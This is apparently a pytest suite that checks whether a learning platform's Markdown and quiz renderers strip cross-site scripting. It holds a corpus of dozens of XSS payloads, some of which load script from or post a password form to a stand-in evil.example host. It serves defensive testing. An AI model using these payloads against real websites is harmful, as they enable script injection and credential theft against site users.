"""XSS corpus: no payload written by a trainer may reach a learner's browser as active content.

Each payload goes through lesson rendering and quiz-text rendering (prompts, options, feedback
and explanations all use `render_quiz_text`). The output is parsed with the standard library's
HTML parser and checked against an allowlist kept here, independently of the sanitiser's own.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import markdown
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.content.render import render_markdown, render_quiz_text

SAFE_TAGS = {
    "p", "br", "hr", "em", "strong", "b", "i", "u", "s", "del", "ins", "mark", "small", "sub",
    "sup", "abbr", "kbd", "code", "pre", "span", "q", "cite", "samp", "var", "h1", "h2", "h3",
    "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "table", "caption", "colgroup", "col",
    "thead", "tbody", "tfoot", "tr", "th", "td", "blockquote", "figure", "figcaption", "img", "a",
    "div", "details", "summary",
}  # fmt: skip
DANGEROUS_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "textarea", "select", "svg", "math", "base", "meta", "link", "body",
    "html", "template", "noscript",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "href", "src", "alt", "title", "width", "height", "class", "id", "rel", "colspan",
    "rowspan", "start", "abbr", "scope", "span", "open",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "background", "poster",
    "srcset", "cite", "codebase", "lowsrc", "dynsrc",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "\\"><script>alert(1)</script>")',
    "[x](https://ok.example '\"><img src=x onerror=alert(1)>')",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<style>body { background: url("javascript:alert(1)") }</style>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    '<div onmouseover="alert(1)">hover</div>',
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="import" href="https://evil.example/x.html">',
    'Click me\n{: onclick="alert(1)" }',
    'Cover\n{: style="position:fixed;top:0;left:0;width:100%;height:100%" }',
    '[x](https://ok.example){: onclick="alert(1)" style="color:red" }',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    '<details markdown="1">\n<summary>s</summary>\n\n[x](javascript:alert(1))\n</details>',
]

# Payloads plain Python-Markdown happens to defuse on its own (it escapes link titles, and does
# not parse Markdown inside a raw <div>); every other one must make the checker fail on
# unsanitised output, which proves the corpus test can fail.
NAIVE_MARKDOWN_DEFUSES = {
    "[x](  javascript:alert(1))",
    '[x](https://ok.example "\\"><script>alert(1)</script>")',
    "[x](https://ok.example '\"><img src=x onerror=alert(1)>')",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
}


class _TagCollector(HTMLParser):
    """Collects every start tag with its (entity-decoded) attributes, and all text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _scheme(url: str) -> str | None:
    """The scheme a browser would see: controls and spaces trimmed, tabs/newlines removed."""
    cleaned = re.sub(r"[\t\n\r]", "", url.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08 \t\n\r\f"))
    match = _SCHEME.match(cleaned.lower())
    return match.group(1) if match else None


def problems_in(html: str) -> list[str]:
    """Everything in `html` that could run script, restyle the page or leave the allowlist."""
    collector = _TagCollector()
    collector.feed(html)
    collector.close()
    found: list[str] = []
    for tag, attrs in collector.tags:
        if tag in DANGEROUS_TAGS or tag not in SAFE_TAGS:
            found.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style" or name not in SAFE_ATTRIBUTES:
                found.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = _scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    found.append(f"{scheme}: URL in {name} on <{tag}>")
    return found


def _rendered_forms(payload: str) -> dict[str, str]:
    return {
        "lesson": render_markdown(payload).html,
        "quiz block": render_quiz_text(payload),
        "quiz option": render_quiz_text(payload, inline=True),
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised_in_lessons_and_quiz_text(payload: str) -> None:
    for where, html in _rendered_forms(payload).items():
        assert problems_in(html) == [], f"{where}: {html!r}"


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p not in NAIVE_MARKDOWN_DEFUSES])
def test_checker_flags_unsanitised_markdown_output(payload: str) -> None:
    assert problems_in(markdown.markdown(payload, extensions=["attr_list", "md_in_html"]))


def test_corpus_is_large_enough() -> None:
    assert len(PAYLOADS) >= 30


@pytest.mark.parametrize(
    ("source", "expected_text"),
    [
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
        ("`<script>alert(1)</script>`", "<script>alert(1)</script>"),
        ("```\n<img src=x onerror=alert(1)>\n```", "<img src=x onerror=alert(1)>"),
    ],
)
def test_escaped_markup_stays_visible_text(source: str, expected_text: str) -> None:
    for where, html in _rendered_forms(source).items():
        collector = _TagCollector()
        collector.feed(html)
        assert problems_in(html) == [], where
        assert expected_text in "".join(collector.text), f"{where}: {html!r}"


def test_external_links_carry_noopener_noreferrer_even_if_the_trainer_set_rel() -> None:
    html = render_markdown('<a href="https://ok.example" rel="opener">x</a>').html
    assert 'rel="noopener noreferrer"' in html and "opener noreferrer" in html
    assert 'rel="opener"' not in html


_FRAGMENTS = [
    *PAYLOADS,
    "\n\n",
    "`",
    "```",
    "<",
    ">",
    '"',
    "'",
    "](",
    ")",
    "[",
    "{: ",
    "}",
    "&#",
    "javascript:",
    " onerror=",
]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), min_size=1, max_size=8).map("".join))
def test_spliced_payload_fragments_are_neutralised(source: str) -> None:
    for where, html in _rendered_forms(source).items():
        assert problems_in(html) == [], f"{where}: {html!r}"
